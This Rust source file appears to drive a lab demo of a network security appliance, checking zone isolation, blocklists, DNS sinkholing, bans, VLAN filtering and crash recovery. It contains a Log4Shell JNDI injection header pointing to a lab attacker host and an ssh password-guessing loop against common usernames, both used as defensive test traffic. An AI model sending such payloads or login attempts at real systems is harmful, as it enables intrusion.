//! The steps of the demo, in the order in which they are played. Later ones build on earlier ones: the ban of the
//! brute force is the one that survives `kill -9` and is lifted at the end.

use crate::bring::Own;
use crate::config::{ECHO_PORT, LOG4SHELL_SID};
use crate::frames;
use crate::network::{
    ATTACKER, CAMERAS, CAMERAS_VLAN, DMZ, EXPLOITER, HOME, IOT, STORAGE, VISITOR, WAN, address,
};
use crate::probe::{Conversation, Probe, answers_until_cut, connect};
use crate::programs::{ADMIN, BROWSER};
use crate::scenario::{Goals, Lab, socket};
use anyhow::{Context, Result, bail};
use serde_json::Value;
use std::collections::BTreeMap;
use std::time::{Duration, Instant};

/// How long something may take that is not measured.
const SOON: Duration = Duration::from_secs(10);
/// How long a client waits for an answer that must not come.
const NO_ANSWER: Duration = Duration::from_millis(800);
/// Most failed logins until a ban must be there.
const MOST_LOGINS: usize = 12;
/// How often it is asked whether the ban is there.
const LOOK: Duration = Duration::from_millis(500);
/// Frames sent per tag.
const FRAMES: usize = 100;
/// Most requests sent on the connection with the exploit.
const MOST_REQUESTS: usize = 200;
/// From a log line to the first dropped packet: the goal.
const BAN_GOAL: Duration = Duration::from_millis(10);
/// `secctl why` answers within this: the goal.
const WHY_GOAL: Duration = Duration::from_millis(50);
/// Most memory secd may ever have had, in KiB.
const MEMORY_LIMIT_KIB: u64 = 60 * 1024;

/// A step to play.
pub(crate) struct Plan {
    pub(crate) name: &'static str,
    pub(crate) expected: &'static str,
    pub(crate) act: fn(&mut Lab) -> Result<Seen>,
}

/// What a step saw.
pub(crate) struct Seen {
    pub(crate) text: String,
    pub(crate) ok: bool,
}

/// Whether a measured time lets its step hold, and what is said about it where it is over the goal.
fn judge(goals: Goals, took: Duration, goal: Duration) -> (bool, &'static str) {
    if took <= goal {
        return (true, "");
    }
    match goals {
        Goals::Binding => (false, " (slower than the goal)"),
        Goals::Told => (true, " (slower than the goal)"),
    }
}

fn seen(ok: bool, text: impl Into<String>) -> Result<Seen> {
    Ok(Seen { text: text.into(), ok })
}

/// All steps, those for people's own files last.
pub(crate) fn all(own: &Own) -> Vec<Plan> {
    let mut plans = vec![
        Plan {
            name: "zones",
            expected: "IoT cannot reach storage (v4, v6); management logs in there by ssh",
            act: zones,
        },
        Plan {
            name: "address list",
            expected: "a listed source gets no answer from the DMZ, another source does",
            act: listed_source,
        },
        Plan {
            name: "DNS sinkhole",
            expected: "a listed name is 0.0.0.0 and EDE 15 names list and line; another resolves",
            act: sinkhole,
        },
        Plan {
            name: "ssh brute force",
            expected: "banned from sshd's log lines; first packet dropped within 10 ms of the line",
            act: brute_force,
        },
        Plan {
            name: "Log4Shell",
            expected: "detected, its flow cut (the first packet may have arrived); others served",
            act: log4shell,
        },
        Plan {
            name: "VLAN tags",
            expected: "wrong tag: every frame dropped as wrong_vlan; right tag: every frame passes",
            act: vlan_tags,
        },
        Plan {
            name: "protected address",
            expected: "a ban of the router's own address is refused with the reason",
            act: protected,
        },
        Plan { name: "Loki", expected: "every event of the file has arrived at the receiver", act: loki },
        Plan {
            name: "kill -9",
            expected: "no verdict changes without secd; its restart adopts flows and bans",
            act: kill_and_restart,
        },
        Plan {
            name: "why",
            expected: "secctl why says what blocks, how to allow it, within 50 ms",
            act: why,
        },
        Plan { name: "unban", expected: "secctl unban lets the source in again", act: unban },
    ];
    let memory_expected = if own.rules.is_some() || own.list.is_some() {
        "told only: your own files come on top of what has a limit"
    } else {
        "secd at most 60 MB (VmHWM) with all lists loaded"
    };
    plans.push(Plan { name: "memory", expected: memory_expected, act: memory });
    if own.list.is_some() {
        plans.push(Plan { name: "your list", expected: "loaded", act: own_list });
    }
    if own.rules.is_some() {
        plans.push(Plan {
            name: "your rules",
            expected: "loaded; what is not supported is counted",
            act: own_rules,
        });
    }
    if own.log.is_some() {
        plans.push(Plan { name: "your log", expected: "judged line by line", act: own_log });
    }
    if own.pcap.is_some() {
        plans.push(Plan { name: "your capture", expected: "inspected", act: own_pcap });
    }
    plans
}

fn zones(lab: &mut Lab) -> Result<Seen> {
    let iot = lab.network.host(IOT)?;
    let storage4 = format!("{}:22", STORAGE.host4);
    let storage6 = format!("[{}]:22", STORAGE.host6);
    let (by4, by6) = (connect(iot, None, &storage4, NO_ANSWER)?, connect(iot, None, &storage6, NO_ANSWER)?);
    let login = lab.programs.ssh_to_storage(&lab.network, ADMIN)?;
    let held = |result: &str| result == "refused" || result == "no answer";
    seen(
        held(&by4) && held(&by6) && login == "in",
        format!("IoT: {by4} (v4), {by6} (v6); management: \"{login}\""),
    )
}

fn listed_source(lab: &mut Lab) -> Result<Seen> {
    let lists = lab.settings.lists.as_ref().context("the lab has no lists")?;
    let (listed, line) = lists.listed_address;
    let outside = lab.network.host(WAN)?;
    outside.ip(&["address", "add", &format!("{listed}/32"), "dev", "eth0"])?;
    let web = format!("{}:80", DMZ.host4);
    let before = lab.appliance.packets("listed_source")?;
    let from_listed = connect(outside, Some(&listed.to_string()), &web, NO_ANSWER)?;
    let from_visitor = connect(outside, Some(VISITOR), &web, NO_ANSWER)?;
    let counted = lab.waiter.until("a counted packet", SOON, || {
        let now = lab.appliance.packets("listed_source")?;
        Ok((now > before).then_some(now - before))
    })?;
    seen(
        from_listed == "no answer" && from_visitor == "HTTP 200",
        format!(
            "{listed} (line {line}, {}): {from_listed}, {counted} packets listed_source; {VISITOR}: {from_visitor}",
            lists.origin()
        ),
    )
}

fn sinkhole(lab: &mut Lab) -> Result<Seen> {
    let lists = lab.settings.lists.as_ref().context("the lab has no lists")?;
    let (name, line) = &lists.phishing_name;
    let server = address(BROWSER.router4);
    let ask = |name: &str| -> Result<String> {
        let mut command = lab.network.host(BROWSER)?.command("kdig");
        command.args([&format!("@{server}"), name, "A", "+edns", "+timeout=3", "+retry=0"]);
        let output = command.output().context("cannot run kdig")?;
        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
    };
    let (blocked, normal, tracked) = (ask(name)?, ask("www.lab.example")?, ask(&lists.tracking_name)?);
    let answer = |text: &str| {
        text.lines()
            .find(|line| line.contains("\tA\t"))
            .and_then(|line| line.split_whitespace().last())
            .unwrap_or("nothing")
            .to_owned()
    };
    let explained = blocked
        .lines()
        .find(|line| line.contains("EDE") || line.contains("EXTENDED"))
        .unwrap_or("no EDE")
        .trim_start_matches([';', ' '])
        .to_owned();
    let names_it =
        explained.contains("15") && explained.contains("phishing") && explained.contains(&line.to_string());
    seen(
        answer(&blocked) == "0.0.0.0"
            && answer(&tracked) == "0.0.0.0"
            && names_it
            && answer(&normal) == WAN.host4,
        format!(
            "{name} ({}): {} [{explained}]; www.lab.example: {}",
            lists.origin(),
            answer(&blocked),
            answer(&normal)
        ),
    )
}

fn brute_force(lab: &mut Lab) -> Result<Seen> {
    let outside = lab.network.host(WAN)?;
    let probe = Probe::start(outside, ATTACKER.parse()?, socket(DMZ.host4, ECHO_PORT)?)?;
    lab.waiter.until("an answer to the probe", SOON, || Ok((probe.answered() > 20).then_some(())))?;
    let mut cut = None;
    for attempt in 0..MOST_LOGINS {
        let user = ["root", "admin", "ubuntu", "pi"][attempt % 4];
        let mut looked = Instant::now();
        lab.programs.ssh_with_wrong_password(&lab.network, &lab.waiter, (ATTACKER, user), || {
            // Asked now and then only: asking costs the machine that is measured.
            let look = looked.elapsed() > LOOK;
            if look {
                looked = Instant::now();
            }
            Ok(look && is_banned(lab, ATTACKER)?)
        })?;
        if is_banned(lab, ATTACKER)? {
            cut = Some(lab.waiter.until("the first dropped packet", SOON, || Ok(probe.cut_at()))?);
            break;
        }
    }
    let Some(cut) = cut else { bail!("not banned after {MOST_LOGINS} failed logins") };
    let lines: Vec<_> =
        lab.programs.lines_about(ATTACKER).into_iter().filter(|written| written.at <= cut).collect();
    let evidence = evidence_of_ban(lab, ATTACKER)?;
    let is_evidence =
        |line: &str| evidence.iter().any(|text| !text.is_empty() && line.contains(text.as_str()));
    let last = lines
        .iter()
        .rfind(|written| is_evidence(written.line.trim_end()))
        .context("no log line stands in the ban's evidence")?;
    let failed = lines.iter().filter(|written| written.line.contains("Failed password")).count();
    let took = cut.duration_since(last.at);
    let milliseconds = took.as_secs_f64() * 1e3;
    let (ok, slower) = judge(lab.goals, took, BAN_GOAL);
    seen(
        ok,
        format!(
            "banned after {failed} failed logins; {milliseconds:.1} ms from line to first dropped packet{slower}"
        ),
    )
}

fn log4shell(lab: &mut Lab) -> Result<Seen> {
    let outside = lab.network.host(WAN)?;
    let web = socket(DMZ.host4, 80)?;
    let header = format!("X-Api-Version: ${{jndi:ldap://{EXPLOITER}:1389/a}}\r\n");
    let harmless = answers_until_cut(outside.path(), VISITOR.parse()?, web, "X-Api-Version: 1\r\n", 20)?;
    let answered = answers_until_cut(outside.path(), EXPLOITER.parse()?, web, &header, MOST_REQUESTS)?;
    let alert = lab.waiter.until("an event of the signature", SOON, || {
        Ok(lab
            .appliance
            .events()?
            .into_iter()
            .find(|event| event["kind"] == "signature" && event["sid"] == LOG4SHELL_SID))
    })?;
    let message = alert["msg"].as_str().unwrap_or_default().to_owned();
    seen(
        answered < MOST_REQUESTS && harmless == 20,
        format!(
            "\"{message}\" (sid {LOG4SHELL_SID}), flow cut after {answered} answers; a harmless connection: {harmless} of 20 answers"
        ),
    )
}

fn vlan_tags(lab: &mut Lab) -> Result<Seen> {
    let host = lab.network.host(CAMERAS)?;
    let (source, target) = (CAMERAS.host4.parse()?, address(CAMERAS.router4).parse()?);
    let counts = |lab: &Lab| -> Result<(u64, u64)> {
        Ok((lab.appliance.packets("wrong_vlan")?, zone_passed(lab, CAMERAS.name)?))
    };
    let before = counts(lab)?;
    frames::send_tagged(host, CAMERAS_VLAN + 1, source, target, 53, FRAMES)?;
    let dropped = lab.waiter.until("frames dropped as wrong_vlan", SOON, || {
        let now = counts(lab)?.0 - before.0;
        Ok((now >= FRAMES as u64).then_some(now))
    })?;
    frames::send_tagged(host, CAMERAS_VLAN, source, target, 53, FRAMES)?;
    let passed = lab.waiter.until("frames with the right tag passing", SOON, || {
        let now = counts(lab)?.1 - before.1;
        Ok((now >= FRAMES as u64).then_some(now))
    })?;
    let dropped_after = counts(lab)?.0 - before.0;
    seen(
        dropped_after == dropped,
        format!(
            "tag {}: {dropped} of {FRAMES} dropped as wrong_vlan; tag {CAMERAS_VLAN}: {passed} of {FRAMES} passed",
            CAMERAS_VLAN + 1
        ),
    )
}

fn protected(lab: &mut Lab) -> Result<Seen> {
    let reply = lab.appliance.ask(&["ban", address(BROWSER.router4)])?;
    let text = reply.json["error"]["message"].as_str().unwrap_or(&reply.text).to_owned();
    seen(reply.code == 1 && reply.text.contains("protected"), format!("exit {}: {text}", reply.code))
}

fn loki(lab: &mut Lab) -> Result<Seen> {
    let events = lab.appliance.events()?;
    let wanted = count_by_identity(&events);
    let (mut missing, mut stored) = (usize::MAX, 0);
    let arrived = lab.waiter.until("every event at the receiver", Duration::from_secs(20), || {
        let entries: Vec<Value> = lab.receiver.entries()?.iter().map(event_of_entry).collect();
        let got = count_by_identity(&entries);
        missing = wanted
            .iter()
            .map(|(identity, count)| count.saturating_sub(*got.get(identity).unwrap_or(&0)))
            .sum();
        stored = entries.len();
        Ok((missing == 0).then_some(()))
    });
    let lost = lab.appliance.status()?["events"]["lost"].as_u64().unwrap_or(0);
    let kinds =
        events.iter().filter_map(|event| event["kind"].as_str()).collect::<std::collections::BTreeSet<_>>();
    let kinds = kinds.into_iter().collect::<Vec<_>>().join(", ");
    seen(
        arrived.is_ok() && lost == 0,
        format!(
            "{} events in the file ({kinds}), {missing} missing among {stored} at the receiver, {lost} lost",
            events.len()
        ),
    )
}

fn kill_and_restart(lab: &mut Lab) -> Result<Seen> {
    let target = socket(WAN.host4, ECHO_PORT)?;
    let mut conversation = Conversation::open(lab.network.host(HOME)?, target)?;
    if !conversation.answers() {
        bail!("the connection from home to the web does not answer before the kill");
    }
    lab.appliance.kill()?;
    let without = verdicts(lab, &mut conversation)?;
    lab.appliance.run(&lab.network.router, &lab.waiter)?;
    let after = verdicts(lab, &mut conversation)?;
    let ban_kept = is_banned(lab, ATTACKER)?;
    let flows = lab.appliance.ask(&["flows"])?.json;
    let flow_kept = flows["flows"].as_array().is_some_and(|rows| {
        rows.iter()
            .any(|row| row["src"] == HOME.host4 && row["dst"] == WAN.host4 && row["dport"] == ECHO_PORT)
    });
    let word = |held: bool| if held { "kept" } else { "LOST" };
    let wrong = |verdicts: &[(&str, bool)]| {
        verdicts.iter().filter(|(_, held)| !held).map(|(name, _)| *name).collect::<Vec<_>>().join(", ")
    };
    let all = without.iter().chain(&after).all(|(_, held)| *held);
    let verdicts_text = if all {
        format!("{} verdicts the same without secd and after", without.len())
    } else {
        format!("changed: without secd [{}], after [{}]", wrong(&without), wrong(&after))
    };
    seen(
        all && ban_kept && flow_kept,
        format!("{verdicts_text}; ban {}, flow {}", word(ban_kept), word(flow_kept)),
    )
}

/// What has to hold whether secd runs or not.
fn verdicts(lab: &Lab, conversation: &mut Conversation) -> Result<Vec<(&'static str, bool)>> {
    let outside = lab.network.host(WAN)?;
    let web = format!("{}:80", DMZ.host4);
    let refused = |result: String| result == "refused" || result == "no answer";
    Ok(vec![
        ("an open connection goes on", conversation.answers()),
        ("the banned source is dropped", connect(outside, Some(ATTACKER), &web, NO_ANSWER)? == "no answer"),
        ("another source is served", connect(outside, Some(VISITOR), &web, NO_ANSWER)? == "HTTP 200"),
        (
            "people reach the web",
            connect(lab.network.host(HOME)?, None, &format!("{}:80", WAN.host4), NO_ANSWER)? == "HTTP 200",
        ),
        (
            "IoT does not reach storage",
            refused(connect(lab.network.host(IOT)?, None, &format!("{}:22", STORAGE.host4), NO_ANSWER)?),
        ),
    ])
}

fn why(lab: &mut Lab) -> Result<Seen> {
    let mut slowest = Duration::ZERO;
    let mut texts = Vec::new();
    let mut ok = true;
    let flow = format!("zone=iot src={} dst={} proto=tcp dport=445", IOT.host4, STORAGE.host4);
    let mut targets = vec![(ATTACKER.to_owned(), "scenario"), (flow, "zone_default")];
    if let Some(lists) = &lab.settings.lists {
        targets.push((lists.phishing_name.0.clone(), "list"));
        targets.push((lists.listed_address.0.to_string(), "list"));
    }
    for (target, by) in &targets {
        let reply = lab.appliance.ask(&["why", target])?;
        slowest = slowest.max(reply.took);
        let json = &reply.json;
        let by_kind = json["by"]["kind"].as_str().unwrap_or("nothing");
        ok &= json["blocked"] == true
            && by_kind == *by
            && (json["allow_command"].is_string() || *by == "zone_default");
        let line = json["by"]["line"].as_u64().map_or_else(String::new, |line| format!(" line {line}"));
        texts.push(format!("{} {}{line}", by_kind, json["by"]["name"].as_str().unwrap_or("?")));
    }
    let (in_time, slower) = judge(lab.goals, slowest, WHY_GOAL);
    seen(
        ok && in_time,
        format!("{}; slowest {:.1} ms{slower}", texts.join(", "), slowest.as_secs_f64() * 1e3),
    )
}

fn unban(lab: &mut Lab) -> Result<Seen> {
    let outside = lab.network.host(WAN)?;
    let web = format!("{}:80", DMZ.host4);
    let before = connect(outside, Some(ATTACKER), &web, NO_ANSWER)?;
    let reply = lab.appliance.ask(&["unban", ATTACKER])?;
    let after = connect(outside, Some(ATTACKER), &web, NO_ANSWER)?;
    seen(
        before == "no answer" && reply.code == 0 && after == "HTTP 200",
        format!("before: {before}; secctl unban: exit {}; after: {after}", reply.code),
    )
}

fn memory(lab: &mut Lab) -> Result<Seen> {
    let peak = lab.appliance.peak_memory_kib()?;
    // Unoptimised programs have some ten megabytes more code; the bound is for what is shipped.
    let unoptimised = cfg!(debug_assertions);
    let bound = if unoptimised { " (unoptimised; the bound is for release)" } else { "" };
    let status = lab.appliance.status()?;
    let bpf = status["memory"]["bpf"].as_u64().unwrap_or(0);
    let lists: Vec<String> = status["lists"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|list| format!("{} {}", list["name"].as_str().unwrap_or("?"), list["entries"]))
        .collect();
    let megabytes = |bytes: u64| bytes as f64 / 1e6;
    seen(
        (unoptimised || peak <= MEMORY_LIMIT_KIB || lab.own.rules.is_some() || lab.own.list.is_some())
            && bpf > 0,
        format!(
            "secd {:.1} MB{bound}, BPF maps {:.1} MB; {}",
            megabytes(peak * 1024),
            megabytes(bpf),
            lists.join(", ")
        ),
    )
}

fn own_list(lab: &mut Lab) -> Result<Seen> {
    let status = lab.appliance.status()?;
    let list = status["lists"]
        .as_array()
        .and_then(|lists| lists.iter().find(|list| list["name"] == "yours"))
        .cloned()
        .unwrap_or_default();
    let error = list["error"].as_str().map_or_else(String::new, |error| format!(", {error}"));
    seen(
        list["entries"].as_u64().is_some_and(|entries| entries > 0) && error.is_empty(),
        format!("{} entries{error}", list["entries"]),
    )
}

fn own_rules(lab: &mut Lab) -> Result<Seen> {
    let signatures = &lab.appliance.status()?["signatures"];
    // One of them is the lab's own.
    let rules = signatures["rules"].as_u64().unwrap_or(0).saturating_sub(1);
    seen(rules > 0, format!("{rules} rules in force, {} not supported", signatures["refused"]))
}

fn own_log(lab: &mut Lab) -> Result<Seen> {
    let text = std::fs::read(lab.own.log.as_ref().context("no log")?).context("cannot read the log")?;
    let lines = text.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()).count() as u64;
    std::fs::write(lab.directory().join("yours.log"), &text)?;
    let row = lab.waiter.until("the log to be read", Duration::from_secs(60), || {
        let status = lab.appliance.status()?;
        let row = status["logs"]
            .as_array()
            .and_then(|logs| logs.iter().find(|log| log["name"] == "yours"))
            .cloned()
            .unwrap_or_default();
        Ok((row["lines"].as_u64().unwrap_or(0) >= lines).then_some(row))
    })?;
    let bans = lab.appliance.ask(&["decisions"])?.json["decisions"].as_array().map_or(0, Vec::len);
    seen(
        true,
        format!(
            "{} lines, {} understood by the sshd filter; {bans} decisions in force",
            row["lines"], row["matched"]
        ),
    )
}

fn own_pcap(lab: &mut Lab) -> Result<Seen> {
    let pcap = lab.own.pcap.clone().context("no capture")?;
    let rules = lab.own.rules.clone().unwrap_or_else(|| lab.directory().join("lab.rules"));
    let reply = lab.appliance.offline(&[
        "inspect",
        "--pcap",
        &pcap.to_string_lossy(),
        "--rules",
        &rules.to_string_lossy(),
    ])?;
    // Packets and alerts, or what is wrong, in its last line.
    let summary = reply.text.lines().last().unwrap_or_default();
    seen(
        reply.code <= 1 && summary.contains(" packets"),
        format!("{summary} ({})", rules.file_name().unwrap_or_default().display()),
    )
}

/// Whether a ban of this address is in force.
fn is_banned(lab: &Lab, address: &str) -> Result<bool> {
    let reply = lab.appliance.ask(&["decisions"])?;
    if reply.code > 1 {
        bail!("secctl decisions ended with {}: {}", reply.code, reply.text);
    }
    let rows = reply.json["decisions"].as_array().cloned().unwrap_or_default();
    Ok(rows.iter().any(|row| row["kind"] == "ban" && row["target"].to_string().contains(address)))
}

/// The log lines that a ban in force gives as its evidence.
fn evidence_of_ban(lab: &Lab, address: &str) -> Result<Vec<String>> {
    let reply = lab.appliance.ask(&["decisions"])?;
    let rows = reply.json["decisions"].as_array().cloned().unwrap_or_default();
    let ban = rows
        .iter()
        .find(|row| row["kind"] == "ban" && row["target"].to_string().contains(address))
        .context("the ban is gone")?;
    let pieces = ban["evidence"].as_array().cloned().unwrap_or_default();
    Ok(pieces.iter().filter_map(|piece| piece["text"].as_str()).map(|text| text.trim().to_owned()).collect())
}

/// Packets of a zone that passed, from the metrics: `secd_packets_total{zone=…,verdict="pass",…}`.
fn zone_passed(lab: &Lab, zone: &str) -> Result<u64> {
    let metrics = lab.appliance.metrics()?;
    let of_zone = format!("zone=\"{zone}\"");
    Ok(metrics
        .lines()
        .filter(|line| {
            line.starts_with("secd_packets_total{")
                && line.contains(&of_zone)
                && line.contains("verdict=\"pass\"")
        })
        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
        .map(|count| count as u64)
        .sum())
}

/// How often each event is there; two events are the same if time, kind, action and reason are.
fn count_by_identity(events: &[Value]) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for event in events {
        let identity = [
            "ts", "kind", "action", "severity", "reason", "src", "dst", "sport", "dport", "name", "client",
            "sid", "message",
        ]
        .map(|key| event[key].to_string())
        .join(" ");
        *counts.entry(identity).or_insert(0) += 1;
    }
    counts
}

/// The event that a stored entry holds: its line is the event's JSON.
fn event_of_entry(entry: &Value) -> Value {
    entry["line"].as_str().and_then(|line| serde_json::from_str(line).ok()).unwrap_or_else(|| entry.clone())
}
